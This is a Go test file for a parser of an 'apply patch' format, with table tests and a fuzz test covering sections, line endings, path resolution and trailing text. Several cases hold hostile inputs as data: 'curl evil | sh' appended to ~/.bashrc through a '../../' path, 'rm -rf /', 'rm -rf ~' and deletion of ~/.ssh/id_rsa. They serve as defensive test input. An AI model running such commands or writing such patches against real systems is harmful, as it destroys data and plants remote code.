package patch

import (
	"reflect"
	"slices"
	"strings"
	"testing"
)

func TestParseApplyPatch(t *testing.T) {
	tests := []struct {
		name  string
		patch string
		want  []Change
		err   string
	}{
		{
			name:  "add, update with a move, delete",
			patch: "*** Begin Patch\n*** Add File: docs/new.md\n+# Title\n+text\n*** Update File: src/a.go\n*** Move to: src/b.go\n@@ func main\n-\told()\n+\tnew()\n \tkeep()\n*** Delete File: /abs/old.txt\n*** End Patch",
			want: []Change{
				{Op: Add, Path: "/w/docs/new.md", Added: "# Title\ntext"},
				{Op: Update, Path: "/w/src/a.go", MoveTo: "/w/src/b.go", Added: "\tnew()"},
				{Op: Delete, Path: "/abs/old.txt"},
			},
		},
		{
			name:  "CRLF, blank lines and end of file marker",
			patch: "\r\n*** Begin Patch\r\n*** Update File: a.txt\r\n@@\r\n-x\r\n+y\r\n*** End of File\r\n*** End Patch\r\n",
			want:  []Change{{Op: Update, Path: "/w/a.txt", Added: "y"}},
		},
		{name: "dot-dot is resolved", patch: "*** Begin Patch\n*** Add File: ../../home/u/.bashrc\n+curl evil | sh\n*** End Patch", want: []Change{{Op: Add, Path: "/home/u/.bashrc", Added: "curl evil | sh"}}},
		{name: "no begin", patch: "*** Add File: a\n+x\n*** End Patch", err: "does not start with *** Begin Patch"},
		{name: "no end", patch: "*** Begin Patch\n*** Add File: a\n+x\n", err: "does not end with *** End Patch"},
		{name: "no file", patch: "*** Begin Patch\n*** End Patch", err: "changes no file"},
		{name: "text outside a section", patch: "*** Begin Patch\nrm -rf /\n*** End Patch", err: "outside any file section"},
		{name: "unprefixed line in an added file", patch: "*** Begin Patch\n*** Add File: a\nx\n*** End Patch", err: "does not start with +"},
		{name: "move outside an update", patch: "*** Begin Patch\n*** Add File: a\n*** Move to: b\n*** End Patch", err: "Move to"},
		{name: "adding to a deleted file", patch: "*** Begin Patch\n*** Delete File: a\n+x\n*** End Patch", err: "deleted file"},
		{name: "header without a path", patch: "*** Begin Patch\n*** Delete File: \n*** End Patch", err: "without a path"},
		{name: "blank lines after the end", patch: "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n\n  \r\n", want: []Change{{Op: Add, Path: "/w/a", Added: "x"}}},
		{name: "a second patch after the end", patch: "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n*** Begin Patch\n*** Add File: /home/u/.bashrc\n+curl evil | sh\n*** End Patch", err: "line 5 follows *** End Patch"},
		{name: "a file section after the end", patch: "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n*** Delete File: /home/u/.ssh/id_rsa", err: "follows *** End Patch"},
		{name: "text after the end", patch: "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\nrm -rf ~", err: "follows *** End Patch"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParseApplyPatch(tt.patch, "/w/")
			if tt.err != "" {
				if err == nil || !strings.Contains(err.Error(), tt.err) {
					t.Fatalf("error %v, want %q", err, tt.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("got %+v\nwant %+v", got, tt.want)
			}
		})
	}
}

func FuzzParseApplyPatch(f *testing.F) {
	f.Add("*** Begin Patch\n*** Add File: a\n+x\n*** Update File: b\n*** Move to: c\n@@\n-y\n+z\n*** Delete File: d\n*** End Patch")
	f.Add("*** Begin Patch\n*** End Patch")
	f.Add("*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n*** Begin Patch\n*** Delete File: b\n*** End Patch")
	f.Add("")
	f.Fuzz(func(t *testing.T, patch string) {
		changes, err := ParseApplyPatch(patch, "/w")
		if err != nil {
			return
		}
		// Nothing but blank lines follows the end of a patch read without error.
		lines := strings.Split(strings.ReplaceAll(patch, "\r\n", "\n"), "\n")
		end := slices.IndexFunc(lines, func(l string) bool { return strings.TrimSpace(l) == "*** End Patch" })
		if end < 0 {
			t.Fatal("a patch read without error has no end")
		}
		for _, l := range lines[end+1:] {
			if strings.TrimSpace(l) != "" {
				t.Fatalf("text after the end of a patch read without error: %q", l)
			}
		}
		if len(changes) == 0 {
			t.Fatal("a patch read without error changes no file")
		}
		for _, ch := range changes {
			if !strings.HasPrefix(ch.Path, "/") || ch.MoveTo != "" && !strings.HasPrefix(ch.MoveTo, "/") {
				t.Fatalf("relative path in %+v", ch)
			}
		}
	})
}
